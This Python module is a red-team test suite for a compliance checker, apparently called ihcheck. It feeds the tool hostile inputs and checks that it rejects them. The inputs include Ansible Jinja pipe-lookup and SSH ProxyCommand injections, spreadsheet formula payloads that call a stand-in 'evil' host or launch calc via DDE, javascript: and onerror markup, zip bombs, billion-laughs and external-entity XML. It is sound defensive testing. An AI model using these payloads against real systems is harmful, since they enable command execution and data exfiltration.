"""Red team, round two (issue 21, `sec`): host strings as code, inventories running commands on the checker,
markup in the topology, formulas in spreadsheets, ill-formed XML, unbounded inputs, unbound hospitals, stragglers.

`benchmarks/redteam.py` imports `cases()` and runs them with its own; each case runs the real `ihcheck` (and
`ansible-playbook` where a playbook is the product) and may set its outcome itself:

    code execution   a MARK file a payload would create exists, or a `javascript:`/`<a>` link reached the SVG
    formula cells    a spreadsheet ihcheck wrote holds a formula cell, or a CSV cell that starts like one
    ill-formed XML   a JUnit file no XML parser reads
    hang             a case past its deadline, or a probe's detached child alive after the check

    .venv/bin/python benchmarks/redteam.py --only sec [--verbose]
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))
from benchmarks.redteam import LOCAL, Case, Run, check, ihcheck, make_bundle, shim, write  # noqa: E402

PAYLOADS = ["{{ lookup('pipe', 'touch MARK') }}", "{% set x = lookup('pipe', 'touch MARK') %}x",
            "a'] + [lookup('pipe','touch MARK')] + ['", "{{ hostvars }}", "x\n  - debug: {msg: \"{{ lookup('pipe', "
            "'touch MARK') }}\"}", "!unsafe {{ lookup('pipe','touch MARK') }}", "{{ query('pipe', 'touch MARK') }}",
            "{# #}{{ lookup(\"pipe\", \"touch MARK\") }}"]
QUICK = 20.0  # seconds: a refusal of a hostile input, start-up included, on a loaded shared machine
FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1,\"open\")", "=WEBSERVICE(\"http://evil/\")", "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
MARKUP = ['<table href="javascript:alert(1)"><tr><td href="javascript:alert(2)">y</td></tr></table>',
          '<font href="javascript:alert(3)">x</font>', "x</font></td></tr></table>>, URL=\"javascript:alert(4)\"",
          "<img src=x onerror=alert(5)>"]


def _executed(run: Run, mark: Path) -> Run:
    if mark.exists():
        run.outcome = "code execution"
    return run


def _py(code: str, work: Path) -> None:
    """Build an input with the project's own models (in a child: the red team imports nothing of ihcheck)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-c", code], cwd=work, env=env, capture_output=True, text=True, timeout=120)
    if done.returncode != 0:
        raise RuntimeError(done.stderr.strip().splitlines()[-1] if done.stderr.strip() else "builder failed")


# ---------------------------------------------------------------------------------------------- remediate

def _hostile_result(work: Path, payload: str, names: list[str]) -> Path:
    _py(f"""
import json, sys
from tests.security.test_remediate_data import _hostile_host, _result
p = {json.dumps(payload)}.replace("MARK", {json.dumps(str(work / "PWNED"))})
names = {json.dumps(names)}
hosts = tuple(_hostile_host(n.replace("MARK", {json.dumps(str(work / "PWNED"))}), p, p, p, p, p) for n in names)
open("result.json", "w").write(_result(hosts).model_dump_json(by_alias=True))
""", work)
    return work / "result.json"


def remediate_cases() -> list[Case]:
    def go(payload: str, names: list[str]) -> Callable[[Path], Run]:
        def run(w: Path) -> Run:
            mark = w / "PWNED"
            result = _hostile_result(w, payload, names)
            made = ihcheck(["remediate", str(result), "--out", str(w / "pb.yml")], w)
            if made.code != 0:
                return _executed(made, mark)
            write(w / "hosts.yml", "all:\n  vars:\n    inventory_secret: INVENTORY-SECRET-S3cr3tRedTeam\n  hosts:\n"
                  + "".join(f"    {json.dumps(n)}: {{ansible_connection: local}}\n" for n in names
                            if re.fullmatch(r"[A-Za-z0-9.:-]+", n) and n != "localhost")
                  + "    localhost: {ansible_connection: local}\n")
            playbook = str(Path(sys.executable).with_name("ansible-playbook"))
            outs = []
            # --check runs the manual steps whose messages carry the payloads (become off, this interpreter)
            codes = []
            for extra in (["--list-hosts"], ["--list-tasks"], ["--check", "--tags", "L3-CES1-08,L3-CES1-18",
                                                               "-e", "ansible_become=false", "-e",
                                                               "ansible_python_interpreter=/usr/bin/python3"]):
                try:
                    done = subprocess.run([playbook, "-i", str(w / "hosts.yml"), str(w / "pb.yml"), *extra], cwd=w,
                                          capture_output=True, text=True, timeout=120,
                                          env={**os.environ, "HOME": str(w / "home"), "ANSIBLE_NOCOLOR": "1"})
                    outs.append(done.stdout + done.stderr)
                    codes.append(done.returncode)
                except subprocess.TimeoutExpired:
                    return Run(None, "", "ansible-playbook hung", 120.0)
            run = Run(made.code, "\n".join(outs), made.err, made.seconds)
            if any(codes) or "manual step" not in outs[-1]:
                run.outcome = "wrong exit"  # the playbook did not run to the tasks holding the host's values
            return _executed(run, mark)
        return run

    cases = [Case("sec/remediate", f"payload {i} in account, sudoers, process, address", go(p, ["localhost"]),
                  must_not_pass=False) for i, p in enumerate(PAYLOADS)]
    cases += [Case("sec/remediate", f"payload {i} as a host name", go(PAYLOADS[i], ["localhost", PAYLOADS[i]]),
                   must_not_pass=False) for i in (0, 2, 4)]
    cases.append(Case("sec/remediate", "two IPv6 host names", go("x", ["fe80::1", "2001:db8::2", "localhost"]),
                      must_not_pass=False))

    def unknown_unit(w: Path) -> Run:
        result = _hostile_result(w, "x", ["localhost"])
        data = json.loads(result.read_text())
        for f in data["findings"]:
            if f["verdict"] == "fail" and isinstance(f.get("details"), dict) and f["details"].get("unit"):
                f["details"]["unit"], f["rule_id"] = "L3-CES1-99", "GD2020-1.2.1-l3-ces1-99"
        result.write_text(json.dumps(data))
        return ihcheck(["remediate", str(result)], w)

    cases.append(Case("sec/remediate", "a unit not in the catalogue", unknown_unit, expect=(65,)))
    return cases


# ---------------------------------------------------------------------------------------------- ansible trust

def ansible_cases() -> list[Case]:
    def go(variable: str, engine: bool) -> Callable[[Path], Run]:
        def run(w: Path) -> Run:
            mark = w / "PWNED"
            shim(w, "ssh.sh", f"touch {mark}\nexec ssh \"$@\"\n")
            text = variable.replace("MARK", str(mark)).replace("SCRIPT", str(w / "ssh.sh"))
            inv = ("all:\n  hosts:\n    h1:\n      ansible_host: 127.0.0.1\n      ansible_port: 1\n"
                   f"      {text}\n" + ("" if engine else "      ihcheck_transport: ansible\n"))
            extra = ["--connect-timeout", "3", *(["--engine", "ansible"] if engine else [])]
            return _executed(check(w, inv, *extra), mark)
        return run

    variables = {
        "ProxyCommand": "ansible_ssh_common_args: \"-o ProxyCommand='touch MARK'\"",
        "ProxyCommand (extra args)": "ansible_ssh_extra_args: \"-oProxyCommand='touch MARK'\"",
        "LocalCommand": "ansible_ssh_common_args: \"-o PermitLocalCommand=yes -o LocalCommand='touch MARK'\"",
        "KnownHostsCommand": "ansible_ssh_common_args: \"-o KnownHostsCommand='/bin/touch MARK'\"",
        "pipe lookup in ssh args": "ansible_ssh_common_args: \"{{ lookup('pipe', 'touch MARK') }}\"",
        "pipe lookup elsewhere": "other_var: \"{{ lookup('pipe', 'touch MARK') }}\"",
        "ssh executable": "ansible_ssh_executable: SCRIPT",
        "scp executable": "ansible_scp_executable: SCRIPT",
        "paramiko proxy command": "ansible_paramiko_proxy_command: \"touch MARK\"",
        # a local connection is the checker: what Ansible runs "on the host" runs there (the audit of issue 21)
        "shell executable, local connection": "ansible_connection: local\n      ansible_shell_executable: SCRIPT",
        "interpreter with a command, local connection": "ansible_connection: local\n      "
                                                        "ansible_python_interpreter: \"touch MARK; /usr/bin/python3\"",
        "interpreter script, local connection": "ansible_connection: local\n      ansible_python_interpreter: SCRIPT",
        "become exe, local connection": "ansible_connection: local\n      ansible_become: true\n      "
                                        "ansible_become_exe: SCRIPT",
        "become flags, local connection": "ansible_connection: ansible.builtin.local\n      ansible_become: true\n"
                                          "      ansible_become_flags: \"-n; touch MARK;\"",
    }
    return [Case("sec/ansible", f"{name} ({'--engine ansible' if engine else 'ansible transport'})", go(v, engine),
                 expect=(65,)) for name, v in variables.items() for engine in (False, True)]


# ---------------------------------------------------------------------------------------------- bundles

def _mlps_bundle(w: Path) -> Path:
    """A real bundle of this machine whose catalogue holds an MLPS item (the workbook's rows) and the servers rule."""
    run = ihcheck(["keys", "new", "--out", str(w / "keys")], w)
    assert run.code == 0, run.err
    run = check(w, LOCAL, "--bundle", str(w / "bundle"), "--sign-key", str(w / "keys"),
                rules=("GD2020-1.2.3-servers", "GD2020-1.2.1-l3-ces1-01"))
    assert run.code in (0, 1, 2), run.err
    return w / "bundle"


def _forged(w: Path, edit: str) -> Path:
    """A real bundle of this machine, edited by `edit` (Python over `facts`, `findings`) and re-signed by a forger."""
    bundle = _mlps_bundle(w)
    _py(f"""
import json
from pathlib import Path
from reports.keys import SigningKeys
from tests.reports.test_bundle import _reseal
b = Path({json.dumps(str(bundle))})
facts = json.loads((b / "facts.json").read_text())
findings = json.loads((b / "findings.json").read_text())
{edit}
(b / "facts.json").write_text(json.dumps(facts, ensure_ascii=False))
(b / "findings.json").write_text(json.dumps(findings, ensure_ascii=False))
_reseal(b, SigningKeys.generate())
""", w)
    return bundle


def _mlps_findings(hosts: list[Any], reason: Any, waiver: Any = None) -> str:
    finding = {"rule_id": "GD2020-1.2.1-l3-ces1-01", "verdict": "fail", "reason": reason, "reason_zh": reason,
               "hosts": hosts, "details": {"unit": "L3-CES1-01", "actual": reason, "remediation": reason},
               "evidence": [{"basis": "attested", "statement": reason}], "observations": [], "waiver": waiver}
    return f"findings[:] = [{finding!r}]"


def _formula_cells(data: bytes) -> int:
    count = 0
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                count += archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
    from openpyxl import load_workbook

    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            count += sum(1 for cell in row if cell.data_type == "f" or (
                isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")) and not cell.quotePrefix))
    return count


def spreadsheet_cases() -> list[Case]:
    def xlsx(hosts: list[Any], reason: Any) -> Callable[[Path], Run]:
        def run(w: Path) -> Run:
            bundle = _forged(w, _mlps_findings(hosts, reason))
            out = w / "r.xlsx"
            result = ihcheck(["report", str(bundle), "--format", "xlsx", "--out", str(out)], w)
            if out.is_file() and _formula_cells(out.read_bytes()):
                result.outcome = "formula cells"
            elif result.code == 0 and out.is_file():
                from openpyxl import load_workbook

                names = load_workbook(out).sheetnames
                if len(names) != len({str(h) for h in hosts if isinstance(h, str)} or {""}) or any(
                        len(n) > 31 for n in names):
                    result.outcome = "false pass"  # two hosts on one sheet, or a title Excel refuses to open
            return result
        return run

    cases = [Case("sec/xlsx", f"formula {f!r} as reason and host", xlsx([f, "h"], f), must_not_pass=False)
             for f in FORMULAS]
    cases += [
        Case("sec/xlsx", "/ and : in a host name", xlsx(["a/b:c", "d\\e?f*[g]"], "r"), must_not_pass=False),
        Case("sec/xlsx", "host names equal in 31 characters", xlsx(["x" * 31 + "1", "x" * 31 + "2"], "r"),
             must_not_pass=False),
        Case("sec/xlsx", "control characters", xlsx(["h\x01\x1b"], "a\x0cb\x1b[31m\x00"), must_not_pass=False),
        Case("sec/xlsx", "an object where text was expected", xlsx(["h"], {"a": [1, {"b": None}]}),
             must_not_pass=False),
    ]

    def fleet_csv(hospital: str) -> Callable[[Path], Run]:
        def run(w: Path) -> Run:
            bundle = _forged(w, f"facts['documents'] = {{'hospital': {hospital!r}, 'documents': []}}")
            out = w / "f.csv"
            result = ihcheck(["fleet", str(bundle), "--format", "csv", "--out", str(out)], w)
            if out.is_file():
                cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for c in row]
                if any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells):
                    result.outcome = "formula cells"
            return result
        return run

    cases += [Case("sec/csv", f"hospital named {f!r}", fleet_csv(f), must_not_pass=False) for f in FORMULAS[:6]]

    def junit(reason: Any, waiver: Any = None) -> Callable[[Path], Run]:
        def run(w: Path) -> Run:
            bundle = _forged(w, _mlps_findings(["h"], reason, waiver))
            out = w / "j.xml"
            result = ihcheck(["report", str(bundle), "--format", "junit", "--out", str(out)], w)
            if out.is_file():
                try:
                    ET.fromstring(out.read_bytes())
                except ET.ParseError:
                    result.outcome = "ill-formed XML"
            return result
        return run

    cases += [
        Case("sec/junit", "]]> in a reason", junit("a]]>b<![CDATA[c"), must_not_pass=False),
        Case("sec/junit", "form feed in a reason", junit("a\x0cb"), must_not_pass=False),
        Case("sec/junit", "ESC in a reason", junit("\x1b[31mred\x1b]0;t\x07"), must_not_pass=False),
        Case("sec/junit", "NUL and surrogate-free binary in a reason", junit("\x00\x01\x02\x1f"), must_not_pass=False),
        Case("sec/junit", "a waiver without ticket or expiry", junit("r", {"justification": "j"}),
             must_not_pass=False),
        Case("sec/junit", "an object as the reason", junit({"x": ["]]>", "\x0c"]}), must_not_pass=False),
    ]
    return cases


def _active_svg(svg: str) -> list[str]:
    """Elements and attributes of an SVG that act (links, scripts, handlers): markup, not the text it shows."""
    found = []
    for element in ET.fromstring(svg).iter():
        tag = element.tag.rsplit("}", 1)[-1]
        if tag in ("a", "script", "foreignObject", "iframe"):
            found.append(tag)
        for key, value in element.attrib.items():
            local = key.rsplit("}", 1)[-1].lower()
            if local.startswith("on") or local in ("href", "src") or "javascript:" in value.lower():
                found.append(local)
    return found


def rendered_topology(w: Path, edit: str) -> Run:
    """A bundle forged by `edit` (re-signed by its key) rendered as HTML: code execution if its diagram holds a
    link, script or handler (or there is no diagram)."""
    bundle = _forged(w, edit)
    out = w / "r.html"
    result = ihcheck(["report", str(bundle), "--format", "html", "--out", str(out)], w)
    if out.is_file():
        html = out.read_text(encoding="utf-8")
        start, end = html.find("<svg"), html.find("</svg>")
        if start == -1 or _active_svg(html[start:end + len("</svg>")]):
            result.outcome = "code execution"
    return result


def topology_cases() -> list[Case]:
    def go(markup: str) -> Callable[[Path], Run]:
        def run(w: Path) -> Run:
            return rendered_topology(w, f"m = {markup!r}\nfor h in facts['hosts']:\n    h['egress'] = {{'paths': "
                                     "[{'address': '203.0.113.9', 'identity': {'isp': m, 'as_org': m, 'asn': None, "
                                     "'country': m}}]}\n    h['uplinks'] = None")
        return run

    return [Case("sec/topology", f"markup in a provider's name: {m[:40]}", go(m), must_not_pass=False)
            for m in MARKUP]


# ---------------------------------------------------------------------------------------------- bounded inputs

def input_cases() -> list[Case]:
    def hostile(kind: str, w: Path, suffix: str) -> Path:
        from tests.security import hostile_files as hf

        path = w / f"input{suffix}"
        if kind == "fifo":
            return hf.fifo(path)
        if kind == "sparse 4 GiB":
            return hf.sparse(path)
        if kind == "/dev/zero":
            return Path("/dev/zero")
        return write(path, {"nested 100,000 deep": hf.deep_json(), "5,000-digit number": hf.long_number_json()}[kind])

    def command(argv: Callable[[Path], list[str]], kind: str, suffix: str = ".json") -> Callable[[Path], Run]:
        def run(w: Path) -> Run:
            target = hostile(kind, w, suffix)
            return ihcheck(argv(target), w, timeout=60)
        return run

    cases: list[Case] = []
    kinds = ["fifo", "/dev/zero", "sparse 4 GiB", "nested 100,000 deep", "5,000-digit number"]
    for kind in kinds:
        cases.append(Case("sec/input", f"remediate: {kind}", command(lambda p: ["remediate", str(p)], kind),
                          expect=(65,), deadline=QUICK))
        cases.append(Case("sec/input", f"diff: {kind}", command(lambda p: ["diff", str(p), str(p)], kind),
                          expect=(65,), deadline=QUICK))
    for kind in ["fifo", "/dev/zero", "sparse 4 GiB"]:
        for name, argv in (("verify", lambda p: ["verify", str(p)]), ("report", lambda p: ["report", str(p)]),
                           ("fleet", lambda p: ["fleet", str(p)]), ("trail verify", lambda p: ["trail", "verify",
                                                                                             str(p)])):
            # fleet lists a bundle it cannot read as NOT VERIFIED (exit 1); a sparse audit log of zeros is one
            # endless line: broken (exit 1), read in bounded memory
            expect = (1,) if name == "fleet" or (name == "trail verify" and kind == "sparse 4 GiB") else (65,)
            cases.append(Case("sec/input", f"{name}: {kind}", command(argv, kind, ".tar.gz"), expect=expect,
                              deadline=60.0 if kind == "sparse 4 GiB" and name == "trail verify" else QUICK))

    def trail(make: Callable[[Path], None]) -> Callable[[Path], Run]:
        def run(w: Path) -> Run:
            make(w / "audit.jsonl")
            return ihcheck(["trail", "verify", str(w / "audit.jsonl")], w, timeout=60)
        return run

    def long_line(path: Path) -> None:
        with path.open("wb") as out:
            out.write(b'{"prev":"' + b"0" * 64 + b'","seq":1,"x":"')
            out.write(b"a" * (200 * 1024 * 1024))

    def long_seq(path: Path) -> None:
        import hashlib

        body = '{"prev":"' + "0" * 64 + '","seq":' + "9" * 5000 + ',"x":1'
        path.write_text(body + ',"hash":"' + hashlib.sha256(body.encode()).hexdigest() + '"}\n')

    cases += [Case("sec/input", "trail verify: a 200 MiB line", trail(long_line), expect=(1,), deadline=QUICK),
              Case("sec/input", "trail verify: a 5,000-digit seq", trail(long_seq), expect=(1,), deadline=QUICK)]

    def roster(make: Callable[[Path], Path], name: str) -> Callable[[Path], Run]:
        def run(w: Path) -> Run:
            table = make(w / name)
            inv = ("all:\n  vars:\n    ihcheck_programmes:\n      - id: BJ2026-first-visit\n        hospital: X\n"
                   f"        specialties: [全科]\n        roster: {{file: {table}}}\n"
                   f"        visits: {{file: {table}}}\n"
                   "        audit_log: {host: localhost, path: /tmp/none}\n  hosts:\n"
                   "    localhost: {ansible_connection: local}\n")
            return check(w, inv, rules=("BJ2026-3-physicians",))
        return run

    from tests.security import hostile_files as hf

    tables: dict[str, tuple[Callable[[Path], Path], str]] = {
        "1,000,000-row CSV": (lambda p: hf.million_row_csv(p), "r.csv"),
        "XLSX declaring A1:XFD1048576": (lambda p: write(p, hf.declared_huge()), "r.xlsx"),
        "XLSX zip bomb of 2 M rows": (lambda p: write(p, hf.zip_bomb()), "r.xlsx"),
        "XLSX billion laughs": (lambda p: write(p, hf.billion_laughs()), "r.xlsx"),
        "XLSX external entity": (lambda p: write(p, hf.external_entity()), "r.xlsx"),
        "roster FIFO": (lambda p: hf.fifo(p), "r.csv"),
        "roster /dev/zero as a CSV": (_zero_link, "r.csv"),
    }
    cases += [Case("sec/input", f"roster: {name}", roster(make, suffix), expect=(65,), deadline=QUICK)
              for name, (make, suffix) in tables.items()]
    return cases


# ---------------------------------------------------------------------------------------------- trust, stragglers

def _zero_link(path: Path) -> Path:
    path.symlink_to("/dev/zero")
    return path


def trust_cases() -> list[Case]:
    def fleet_binding(w: Path) -> Run:
        bundle, _ = make_bundle(w)
        _py(f"""
import json
from pathlib import Path
from reports.keys import SigningKeys
from tests.reports.test_bundle import _reseal
b = Path({json.dumps(str(bundle))})
facts = json.loads((b / "facts.json").read_text())
facts["documents"] = {{"hospital": "甲医院 Hospital A", "documents": []}}
(b / "facts.json").write_text(json.dumps(facts, ensure_ascii=False))
keys = SigningKeys.generate()
_reseal(b, keys)
Path("ring.txt").write_text("甲医院 Hospital A ed25519:SHA256:AAAA sm2:SM3:aaaa\\n乙医院 Hospital B "
                            + " ".join(keys.public().fingerprints()) + "\\n", encoding="utf-8")
""", w)
        run = ihcheck(["fleet", str(bundle), "--keyring", str(w / "ring.txt"), "--format", "csv"], w)
        if run.code == 0 or ",verified," in run.out:
            run.outcome = "false pass"
        return run

    def diff_unpinned(w: Path) -> Run:
        bundle, _ = make_bundle(w)
        run = ihcheck(["diff", str(bundle), str(bundle)], w)
        if run.code == 0 or "not pinned" not in run.err:
            run.outcome = "false pass"
        return run

    def straggler(w: Path) -> Run:
        marker = f"ihcheck-redteam-straggler-{os.getpid()}-{time.monotonic_ns()}"
        shim(w / "shims", "upsc",
             f"setsid bash -c 'exec -a {marker} sleep 300' &\nsleep 0.3\necho 'battery.charge: 100'\n")
        run = check(w, LOCAL + "      ihcheck_ups: [ups@localhost]\n", shims=w / "shims", rules=("GD2020-1.2.3-power",))
        time.sleep(1)
        left = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout.split()
        if left:
            run.outcome = "hang"
            for pid in left:
                subprocess.run(["kill", "-9", pid], check=False)
        return run

    return [Case("sec/trust", "hospital B's key on a bundle naming hospital A (fleet --keyring)", fleet_binding,
                 must_not_pass=False),
            Case("sec/trust", "diff of an unpinned bundle", diff_unpinned, must_not_pass=False),
            Case("sec/host", "a probe's setsid'd child after the check", straggler, must_not_pass=False)]


def cases() -> list[Case]:
    from benchmarks.redteam_sec_audit import cases as audited  # the classes' cases the first round lacked

    return [*remediate_cases(), *ansible_cases(), *topology_cases(), *spreadsheet_cases(), *input_cases(),
            *trust_cases(), *audited()]


if __name__ == "__main__":
    print(f"{len(cases())} cases; run them with benchmarks/redteam.py --only sec")
